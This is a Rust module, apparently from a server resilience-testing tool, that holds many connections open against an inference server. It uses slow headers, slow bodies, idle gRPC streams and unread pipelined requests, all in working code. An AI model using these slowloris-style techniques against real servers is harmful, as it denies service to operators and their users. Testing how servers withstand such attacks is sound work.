//! Attackers that hold connections. Each keeps a connection open as long as possible, and opens another one when it is
//! closed.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use anyhow::ensure;
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use crate::attacker::{NICE, connect};
use crate::frames::{END_HEADERS, HEADERS, PREFACE, SETTINGS, field, frame, request};

/// Maximum time until the number of connections is reached.
const RAMP: Duration = Duration::from_secs(30);

/// Interval of the counts of connections, and of the bytes of an endless header or body.
const LOOK: Duration = Duration::from_millis(100);
const TRICKLE: Duration = Duration::from_secs(1);

/// Delay before another attempt to open a connection.
const AGAIN: Duration = Duration::from_millis(20);

/// Open files of this process besides the connections.
const OTHER_FILES: u64 = 256;

/// The way to hold a connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Hold {
    /// A gRPC stream without requests.
    WaitingStream,
    /// Many requests without reading the responses.
    ReadsNothing,
    /// A body with a byte at long intervals.
    SlowBody,
    /// A header with a byte at long intervals.
    SlowHead,
}

impl Hold {
    /// Mostly the way that holds a connection the longest.
    const fn of(number: u64) -> Self {
        match number % 8 {
            0..4 => Self::WaitingStream,
            4..6 => Self::ReadsNothing,
            6 => Self::SlowBody,
            _ => Self::SlowHead,
        }
    }

    fn bytes(self) -> Vec<u8> {
        match self {
            Self::WaitingStream => {
                let head = [
                    request(true, "/inference.GRPCInferenceService/ModelStreamInfer"),
                    field("content-type", "application/grpc"),
                    field("te", "trailers"),
                ];
                let settings = frame(SETTINGS, 0, 0, &[]);
                let call = frame(HEADERS, END_HEADERS, 1, &head.concat());
                [PREFACE, &settings, &call].concat()
            }
            Self::ReadsNothing => b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n".repeat(400),
            Self::SlowBody => {
                let head = "POST /predict HTTP/1.1\r\nhost: x\r\ncontent-length: 10000\r\n\r\n";
                head.as_bytes().to_vec()
            }
            Self::SlowHead => b"POST /predict HTTP/1.1\r\nhost: x\r\nx: ".to_vec(),
        }
    }
}

/// Holds this number of connections while `work` runs. Returns its result and the number of held connections: the
/// median of many counts, because the server closes some of them and each is opened again.
///
/// # Errors
///
/// If this number of connections or the runtime isn't possible, or if `work` fails.
pub(crate) fn beside<T>(
    address: SocketAddr,
    count: u64,
    run: impl FnOnce() -> anyhow::Result<T>,
) -> anyhow::Result<(T, u64)> {
    raise_open_files(count)?;
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .on_thread_start(|| {
            let _as_it_is = rustix::process::nice(NICE);
        })
        .enable_all()
        .build()?;
    let held = Arc::new(AtomicU64::new(0));
    let over = Arc::new(AtomicBool::new(false));
    let holders = runtime.spawn({
        let (held, over) = (Arc::clone(&held), Arc::clone(&over));
        async move {
            let mut all = JoinSet::new();
            for number in 0..count {
                all.spawn(hold(address, number, Arc::clone(&held), Arc::clone(&over)));
            }
            all.join_all().await;
        }
    });
    let began = Instant::now();
    while held.load(Ordering::Relaxed) < count && began.elapsed() < RAMP {
        std::thread::sleep(LOOK);
    }
    let looking = runtime.spawn({
        let (held, over) = (Arc::clone(&held), Arc::clone(&over));
        async move {
            let mut looks = Vec::new();
            while !over.load(Ordering::Relaxed) {
                looks.push(held.load(Ordering::Relaxed));
                sleep(LOOK).await;
            }
            looks.sort_unstable();
            looks.get(looks.len() / 2).copied().unwrap_or(0)
        }
    });
    let result = run();
    over.store(true, Ordering::Relaxed);
    let usual = runtime.block_on(looking)?;
    holders.abort();
    runtime.shutdown_background();
    Ok((result?, usual))
}

/// Holds one connection after another.
async fn hold(address: SocketAddr, number: u64, held: Arc<AtomicU64>, over: Arc<AtomicBool>) {
    let [source, ..] = number.to_le_bytes();
    while !over.load(Ordering::Relaxed) {
        let Ok(stream) = connect(address, source, Some(4_096)).await else {
            sleep(AGAIN).await;
            continue;
        };
        held.fetch_add(1, Ordering::Relaxed);
        let _closed = stay(stream, Hold::of(number), &over).await;
        held.fetch_sub(1, Ordering::Relaxed);
    }
}

/// Sends, and stays connected until the server closes the connection or the phase is over.
async fn stay(mut stream: TcpStream, hold: Hold, over: &AtomicBool) -> std::io::Result<()> {
    // As much as the buffers of the sockets accept.
    if let Ok(sent) = timeout(TRICKLE, stream.write_all(&hold.bytes())).await {
        sent?;
    }
    let mut sink = [0; 1_024];
    while !over.load(Ordering::Relaxed) {
        if hold == Hold::ReadsNothing {
            sleep(TRICKLE).await;
            // An error reports it, because nothing is read.
            if let Some(error) = stream.take_error()? {
                return Err(error);
            }
            stream.try_write(b"\r\n").map_or_else(
                |error| match error.kind() {
                    std::io::ErrorKind::WouldBlock => Ok(()),
                    _ => Err(error),
                },
                |_| Ok(()),
            )?;
            continue;
        }
        match timeout(TRICKLE, stream.read(&mut sink)).await {
            Ok(Ok(0)) => break,
            Ok(read) => drop(read?),
            Err(_elapsed) if hold == Hold::WaitingStream => {}
            Err(_elapsed) => stream.write_all(b"y").await?,
        }
    }
    Ok(())
}

/// Raises the limit of open files for this number of connections.
fn raise_open_files(connections: u64) -> anyhow::Result<()> {
    let limit = getrlimit(Resource::Nofile);
    let needed = connections + OTHER_FILES;
    if limit.current.is_none_or(|current| current >= needed) {
        return Ok(());
    }
    ensure!(
        limit.maximum.is_none_or(|most| most >= needed),
        "{connections} connections need {needed} open files (ulimit -n)"
    );
    let raised = Rlimit {
        current: Some(needed),
        ..limit
    };
    Ok(setrlimit(Resource::Nofile, raised)?)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_way_to_hold_is_used_and_none_completes_a_request_but_those_nobody_reads() {
        let ways: Vec<_> = (0..8).map(Hold::of).collect();
        for way in [
            Hold::WaitingStream,
            Hold::ReadsNothing,
            Hold::SlowBody,
            Hold::SlowHead,
        ] {
            assert!(ways.contains(&way), "{way:?}");
            assert!(!way.bytes().is_empty());
        }
        assert!(!Hold::SlowHead.bytes().ends_with(b"\r\n\r\n"));
        assert!(Hold::SlowBody.bytes().ends_with(b"10000\r\n\r\n"));
    }
}
